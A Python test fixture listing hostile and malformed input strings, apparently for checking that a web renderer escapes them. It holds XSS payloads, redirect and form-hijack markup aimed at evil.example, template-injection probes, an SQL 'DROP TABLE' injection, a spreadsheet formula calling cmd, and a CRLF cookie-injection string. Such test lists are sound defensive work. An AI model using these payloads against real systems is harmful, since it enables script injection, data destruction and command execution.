"""What a reader should never write, and someone will."""

TEXTS = (
    # HTML, whole and broken
    "<script>alert(1)</script>",
    "</script></title></textarea></style><plaintext>",
    "<img src=x onerror=alert(1)><svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'><a href=javascript:alert(1)>x</a>",
    "<meta http-equiv=refresh content=0;url=//evil.example><base href=//evil.example>",
    "<!-- --!> ]]> <![CDATA[ <?xml ?> <b <i <u",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60; &nbsp &unknown;",
    "\\u003cscript\\u003e \\x3c %3Cscript%3E",
    # out of an attribute
    '" autofocus onfocus=alert(1) x="',
    '"><input name=move value=finir><form action=//evil.example>',
    # htmx and its like
    '<hx-partial hx-target="#scores"><b>99</b></hx-partial>',
    '<div hx-get="/" hx-trigger="load" hx-on:click="alert(1)">',
    '</hx-partial><div id="suite" hx-swap-oob="true">',
    # templates, formats, queries
    "{{ 7 * 7 }}{{ config }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}{# #}",
    "${7*7} #{7*7} %s %(name)s {0} {name!r} %n",
    "'; DROP TABLE character; --",
    '=HYPERLINK("http://evil.example","x")+cmd|\'/C calc\'!A0',
    # signs that are not letters
    "\u202eecrevni \u2066isolé\u2069 \u200fmarque\u200e",
    "Z\u0351\u036b\u0343a\u0327\u0358l\u0488\u0315g\u0321\u0336o\u0334\u0331" + "\u0301" * 20,
    "👩\u200d❤\ufe0f\u200d💋\u200d👨 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f 🇫🇷 👍🏿",
    "\u200b\u2060\ufeff\u00ad\u180e",
    "\uffff\ufffe\U0010ffff\ue000",
    "a\x00b",
    "\x1b[31mrouge\x07\x08\x7f\x85",
    "\ud800 \udfff",  # half characters
    "a\r\nSet-Cookie: feuilles=x\r\n\r\n<b>",
    "ligne\u2028une\u2029deux\x0btrois",
    "ﷺ ﷽ ꧅ ဪ 𒐫 ⸻",
    # sizes
    "Anticonstitutionnellement" * 2 + "x" * 10,
    "W" * 60,
    "9" * 400,
    " ",
)
